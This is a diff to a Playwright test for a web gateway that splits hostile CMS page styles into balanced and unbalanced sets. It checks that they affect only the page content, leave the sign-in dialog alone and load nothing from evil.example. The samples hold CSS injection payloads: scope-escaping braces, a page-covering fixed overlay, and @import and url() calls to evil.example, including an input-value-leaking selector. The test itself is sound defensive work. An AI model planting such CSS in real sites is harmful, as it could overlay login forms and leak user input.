@@ -6,61 +6,72 @@ import { startStandInCms } from '../../support/standIns/standInCms.ts'
 
 const distDirectory = fileURLToPath(new URL('../../../dist', import.meta.url))
 
-/** Marks what it applies to. Everything but the last rule tries to leave the scope, to load, or to cover the page. */
+/** Marks what it applies to. */
 const mark = 'outline:7px solid rgb(1,2,3)!important'
-const styles = `
-  } *{${mark}} input[value$="a"]{background:url(https://evil.example/a)}
-  a{color:red}} dialog,dialog *{${mark}}
-  :foo(}) x{} } dialog *{${mark}}
-  @media screen{}} dialog *{${mark}}
+
+/** All rules but the last one try to leave the scope, to load, or to cover the page. */
+const balanced = `
+  @media screen{} dialog *{${mark}}
   /*</style>*/ @import "https://evil.example/b.css";
   dialog :is(input,button),body *{${mark};position:\\66ixed;inset:0;background:url(https://evil.example/c)}
   p{--p:fixed;position:var(--p);background-image:image-set("https://evil.example/d" 1x)}
   p{${mark}}
 `
+const unbalanced = `
+  } *{${mark}} input[value$="a"]{background:url(https://evil.example/a)}
+  a{color:red}} dialog,dialog *{${mark}}
+  :foo(}) x{} } dialog *{${mark}}
+  @media screen{}} dialog *{${mark}}
+  p{${mark}}
+`
 
-test('hostile CSS of a page changes only its own content, not the login dialog', {
-  tag: '@phone',
-}, async ({ page }) => {
-  const cms = await startStandInCms()
-  cms.interfere = ({ path }, response) => {
-    if (!path.startsWith('/api/v1/pages/')) return false
-    const body = {
-      title: 'Styled',
-      meta: { title: 'Styled' },
-      styles,
-      content: '<p>Styled text</p>',
+const marked = 'rgb(1, 2, 3)'
+
+for (const [title, styles, applies] of [
+  ['hostile CSS of a page changes only its own content, not the login dialog', balanced, true],
+  ['CSS with unbalanced brackets changes nothing', unbalanced, false],
+] as const)
+  test(title, { tag: '@phone' }, async ({ page }) => {
+    const cms = await startStandInCms()
+    cms.interfere = ({ path }, response) => {
+      if (!path.startsWith('/api/v1/pages/')) return false
+      const body = {
+        title: 'Styled',
+        meta: { title: 'Styled' },
+        styles,
+        content: '<p>Styled text</p>',
+      }
+      response.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'max-age=60' })
+      response.end(JSON.stringify(body))
+      return true
     }
-    response.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'max-age=60' })
-    response.end(JSON.stringify(body))
-    return true
-  }
-  const gateway = await createGateway({
-    cmsUrl: cms.url,
-    siteUrl: 'http://localhost',
-    pages: { distDirectory, development: false },
+    const gateway = await createGateway({
+      cmsUrl: cms.url,
+      siteUrl: 'http://localhost',
+      pages: { distDirectory, development: false },
+    })
+    const requested: string[] = []
+    page.on('request', (request) => requested.push(request.url()))
+    try {
+      const { port } = new URL(await gateway.app.listen({ host: '127.0.0.1', port: 0 }))
+      // The visitor's cookies, which close the popups, are of this host.
+      await page.goto(`http://localhost:${port}/wishlist`)
+      const outline = (selector: string) =>
+        page
+          .locator(selector)
+          .evaluateAll((elements) => elements.map((each) => getComputedStyle(each).outlineColor))
+      await expect(page.getByText('Styled text')).toBeVisible()
+      expect((await outline('[data-piece] p')).includes(marked)).toBe(applies)
+      const dialog = page.getByRole('dialog', { name: 'Sign in' })
+      await expect(async () => {
+        await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click()
+        await expect(dialog).toBeVisible({ timeout: 2000 })
+      }).toPass()
+      await dialog.getByRole('textbox', { name: 'Password' }).fill('Secret1a')
+      expect(await outline('*:not([data-piece] p)')).not.toContain(marked)
+      expect(requested.filter((address) => address.includes('evil.example'))).toEqual([])
+    } finally {
+      await gateway.close()
+      await cms.close()
+    }
   })
-  const requested: string[] = []
-  page.on('request', (request) => requested.push(request.url()))
-  try {
-    const { port } = new URL(await gateway.app.listen({ host: '127.0.0.1', port: 0 }))
-    // The visitor's cookies, which close the popups, are of this host.
-    await page.goto(`http://localhost:${port}/wishlist`)
-    const outline = (selector: string) =>
-      page
-        .locator(selector)
-        .evaluateAll((elements) => elements.map((each) => getComputedStyle(each).outlineColor))
-    await expect.poll(() => outline('[data-piece] p')).toEqual(['rgb(1, 2, 3)'])
-    const dialog = page.getByRole('dialog', { name: 'Sign in' })
-    await expect(async () => {
-      await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click()
-      await expect(dialog).toBeVisible({ timeout: 2000 })
-    }).toPass()
-    await dialog.getByRole('textbox', { name: 'Password' }).fill('Secret1a')
-    expect(await outline('*:not([data-piece] p)')).not.toContain('rgb(1, 2, 3)')
-    expect(requested.filter((address) => address.includes('evil.example'))).toEqual([])
-  } finally {
-    await gateway.close()
-    await cms.close()
-  }
-})
